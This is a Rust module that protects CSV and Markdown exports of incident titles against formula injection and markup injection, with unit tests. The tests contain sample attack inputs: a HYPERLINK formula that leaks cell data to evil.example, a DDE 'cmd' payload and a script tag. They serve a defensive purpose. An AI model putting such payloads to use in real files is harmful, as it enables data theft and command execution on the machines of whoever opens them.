//! Text that leaves mttx to be opened elsewhere, made safe for where it goes: CSV cells a
//! spreadsheet would run as formulas are neutralised ([`Csv`], after OWASP's advice on CSV
//! injection), and text in Markdown is escaped ([`markdown`]). Incident titles come from
//! alert sources anyone can write to, so every CSV and Markdown export goes through here.

use std::borrow::Cow;

/// A CSV cell as written: one that begins with `=`, `+`, `-`, `@`, a tab or a carriage
/// return, and is not a plain number, gets a leading `'` so a spreadsheet shows it as text
/// instead of evaluating it. Numbers (`-12.5`) stay numbers.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if s.parse::<f64>().is_err() => {
            Cow::Owned(format!("'{s}"))
        }
        _ => Cow::Borrowed(s),
    }
}

/// A CSV document in memory whose every cell passes through [`csv_cell`].
pub struct Csv(csv::Writer<Vec<u8>>);

impl std::fmt::Debug for Csv {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Csv").finish_non_exhaustive()
    }
}

impl Default for Csv {
    fn default() -> Self {
        Self(csv::Writer::from_writer(Vec::new()))
    }
}

impl Csv {
    pub fn new() -> Self {
        Self::default()
    }

    /// Writes one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|c| csv_cell(c.as_ref()).into_owned()),
        )
    }

    /// The document's bytes.
    pub fn into_inner(self) -> std::io::Result<Vec<u8>> {
        self.0.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

/// Text for a Markdown document, shown as written: HTML is entity-escaped (`<`, `>`, `&`),
/// the characters Markdown gives meaning to (`\`, `` ` ``, `*`, `_`, `[`, `]`, `|`, `#`,
/// `~`, `!`) are backslash-escaped, and line breaks become spaces, so a title can neither
/// break a table row nor inject markup or links.
pub fn markdown(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '#' | '~' | '!' => {
                out.push('\\');
                out.push(c);
            }
            '\r' | '\n' => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_numbers_are_not() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(csv_cell(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in ["-12.5", "+3", "0", "checkout = slow", "", "a-b"] {
            assert_eq!(csv_cell(fine), fine, "{fine:?}");
        }
        let mut w = Csv::new();
        w.write_record(["=1+1", "-1"]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "'=1+1,-1\n");
    }

    #[test]
    fn markdown_text_cannot_break_a_table_or_inject_markup() {
        assert_eq!(
            markdown("a | b <script>x</script> [link](http://e) *bold*\nnext"),
            r"a \| b &lt;script&gt;x&lt;/script&gt; \[link\](http://e) \*bold\* next"
        );
        assert_eq!(markdown("payments_db"), r"payments\_db");
        assert_eq!(markdown("![img](x)"), r"\!\[img\](x)");
    }
}
